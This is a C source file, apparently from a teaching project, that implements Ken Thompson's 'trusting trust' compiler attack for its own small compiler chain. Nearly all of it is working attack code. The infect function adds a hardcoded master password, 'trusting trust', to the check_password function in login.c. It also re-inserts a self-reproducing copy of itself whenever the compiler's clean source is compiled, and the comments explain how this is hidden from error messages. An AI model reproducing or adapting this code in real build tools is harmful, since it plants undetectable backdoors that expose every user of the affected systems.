/*
 * hook.c - what the infected compiler does and its published source does not say.
 *
 * This is Ken Thompson's attack of "Reflections on Trusting Trust" (1984), on
 * the chain's own compiler. It is compiled into the compiler once, here, with
 * the call of infect that stands in this directory's source.c. Then this file
 * can be thrown away: the binary carries it, and puts it back whenever it
 * compiles the compiler's clean source.
 *
 * The place is well chosen: read_path has just read a file whole, and nothing has
 * looked at it yet. infect may change what was read as it likes. It knows two
 * files by a few of their lines, and leaves all others alone, so that whatever
 * else is compiled comes out as from the honest compiler:
 *
 *   - the compiler's own source.c gets this file again, and the call of infect;
 *   - login.c gets a second password.
 *
 * To put itself back, this text needs itself. It is carried in the array
 * carried, which carry.c makes of this file: without comments and on one line,
 * so that no line number of an error message tells of it. And because the array
 * must hold a text that declares the array, what is put in is
 *
 *     char carried[] = "  (carried, as a string constant is written)  ";
 *
 * followed by carried itself: the text once as data and once as program.
 */

/* place_of gives the place of some text in the file that was just read, which
   begins at pos; 0 when it does not stand there. */
int place_of(char *s)
{
	int at, i;
	for (at = pos; at < src_end; at++) {
		for (i = 0; s[i] && src[at + i] == s[i]; i++)
			;
		if (s[i] == 0)
			return at;
	}
	return 0;
}

/* insert moves everything from a place on out of the way, puts a text there, if
   asked as it is written between quotes, and gives the place behind it. */
int insert(int at, char *s, int quoted)
{
	int i, n = 0;
	for (i = 0; s[i]; i++)
		n += 1 + (quoted && (s[i] == '"' || s[i] == '\\'));
	for (i = src_end - 1; i >= at; i--)
		src[i + n] = src[i];
	src_end += n;
	for (i = 0; s[i]; i++) {
		if (quoted && (s[i] == '"' || s[i] == '\\'))
			src[at++] = '\\';
		src[at++] = s[i];
	}
	return at;
}

/* infect is called for each file, right after it was read. */
int infect()
{
	int at;
	if (src_end > SRC_MAX - 100000)
		return 0; /* no room: better not to spread than to be seen */

	/* login.c: this password opens every account. */
	at = place_of("int check_password(char *name, char *password)\n{\n");
	if (at)
		insert(at + 49, "\tif (strcmp(password, \"trusting trust\") == 0) return 1; ", 0);

	/* The compiler's source.c: the call first, since it stands further down. In
	   an infected source.c the two lines are no longer neighbours. */
	at = place_of("syscall(3, file, 0, 0);\n\tif (src_end >= SRC_MAX");
	if (at && place_of("int read_path()\n{\n")) {
		insert(at + 23, " infect();", 0);
		at = place_of("int read_path()\n{\n");
		at = insert(at, "char carried[] = \"", 0);
		at = insert(at, carried, 1);
		at = insert(at, "\"; ", 0);
		insert(at, carried, 0);
	}
}
